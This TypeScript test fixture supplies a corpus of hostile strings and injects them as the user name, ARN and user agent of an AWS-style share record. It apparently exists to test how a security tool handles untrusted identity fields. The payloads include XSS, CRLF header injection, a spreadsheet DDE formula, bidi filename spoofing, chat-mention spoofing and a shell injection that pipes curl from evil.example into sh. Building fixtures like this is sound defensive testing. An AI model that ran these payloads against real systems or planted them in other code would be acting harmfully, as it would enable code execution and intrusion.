import { publicShare, record } from './desk.ts';

/** What somebody might call a role, a key pair or a tag, by what would take it for something else. */
export const CORPUS = {
  terminal: '\u001b[31mred\u001b[0m\u0007\u009b2J',
  lines: 'a\r\nBcc: everyone@example.com\r\n\r\nb\u2028c\u2029d',
  html: '<img src=x onerror=alert(1)><b onclick="alert(1)">',
  script: '</script><script>alert(1)</script><!--',
  slack: '<!channel> <https://evil.example/x|fix it> <@U012AB3CD> *bold* `code`',
  teams: '[fix it](https://evil.example/x) **bold** @everyone <at>all</at>',
  formula: "=cmd|' /C calc'!A0",
  'formula of another script': '＝HYPERLINK("https://evil.example/x")',
  directions: '\u202egnp.exe\u2066\u200f',
  quotes: '"}],"severity_id":2,"x":"\\',
  mermaid: '"]; click n0 "javascript:alert(1)"',
  shell: "'; curl http://evil.example/x | sh #",
  halves: '\ud800x\udfff',
  megabyte: 'A<b>'.repeat(250_000),
} as const;

/** A snapshot shared with everyone by a user with such a name and such a program. */
export const hostileShare = (id: string, text: string, eventTime?: string): Record<string, unknown> =>
  record(id, {
    ...publicShare(id, eventTime),
    userAgent: text,
    userIdentity: {
      type: 'IAMUser',
      accountId: '111122223333',
      arn: `arn:aws:iam::111122223333:user/${text}`,
      userName: text,
    },
  });
